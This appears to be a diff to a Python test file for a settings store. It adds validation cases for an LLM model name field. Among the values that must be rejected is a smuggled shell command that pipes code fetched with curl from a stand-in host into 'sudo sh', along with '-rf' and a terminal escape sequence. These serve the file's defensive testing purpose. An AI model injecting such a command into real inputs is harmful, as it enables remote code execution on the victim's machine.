@@ -75,6 +75,11 @@ async def test_saving_the_same_value_keeps_its_date(store: SettingsStore, databa
         ("llm_endpoint", "http://1.2.3.4.5:1"),
         ("llm_endpoint", "http://127.1:1"),
         ("llm_endpoint", "http://" + "a" * 3000),
+        ("llm_model", "a b"),
+        ("llm_model", "-rf"),
+        ("llm_model", "x`curl http://evil | sudo sh`"),
+        ("llm_model", "a\x1b]0;title\x07"),
+        ("llm_model", "x" * 201),
         ("event_location", "a\x00b"),
         ("event_location", "\ud800"),
         ("event_location", "two\nlines"),
@@ -85,7 +90,7 @@ async def test_a_bad_value_is_named_and_nothing_is_saved(
     name: str, text: str, store: SettingsStore, database: Database
 ) -> None:
     with pytest.raises(InvalidSettings) as caught:
-        await store.save({"llm_model": "good", name: text})
+        await store.save({"event_offerings": "good", name: text})
     assert list(caught.value.problems) == [name]
     assert "hunter2" not in caught.value.problems[name]
     assert await database.fetch("SELECT * FROM settings") == []
@@ -99,6 +104,8 @@ async def test_a_bad_value_is_named_and_nothing_is_saved(
         ("llm_endpoint", "http://pi.local:11434/", "http://pi.local:11434"),
         ("llm_endpoint", "https://[fe80::1]:11434/ollama", "https://[fe80::1]:11434/ollama"),
         ("llm_endpoint", "http://müller.local", "http://müller.local"),
+        ("llm_model", " hf.co/unsloth/Qwen3-4B-GGUF:Q4_K_M ", "hf.co/unsloth/Qwen3-4B-GGUF:Q4_K_M"),
+        ("llm_model", "/srv/models/qwen3.gguf", "/srv/models/qwen3.gguf"),
         ("event_date", " 2020-01-01 ", "2020-01-01"),
     ],
 )
@@ -224,10 +231,10 @@ async def test_a_stored_value_that_is_no_longer_valid_is_reported_kept_and_unset
 async def test_what_was_not_changed_is_not_written(store: SettingsStore, database: Database) -> None:
     await store.save({"event_location": "here", "llm_model": "a"})
     seen = {"event_location": "here", "llm_model": "a"}
-    await store.save({"llm_model": "somebody else's"})
+    await store.save({"llm_model": "theirs"})
     settings, written = await store.save({"event_location": "there", "llm_model": "a"}, seen)
     assert written == ["event_location"]
-    assert settings.values == {"event_location": "there", "llm_model": "somebody else's"}
+    assert settings.values == {"event_location": "there", "llm_model": "theirs"}
 
 
 async def test_what_somebody_else_changed_is_not_overwritten(store: SettingsStore, database: Database) -> None:
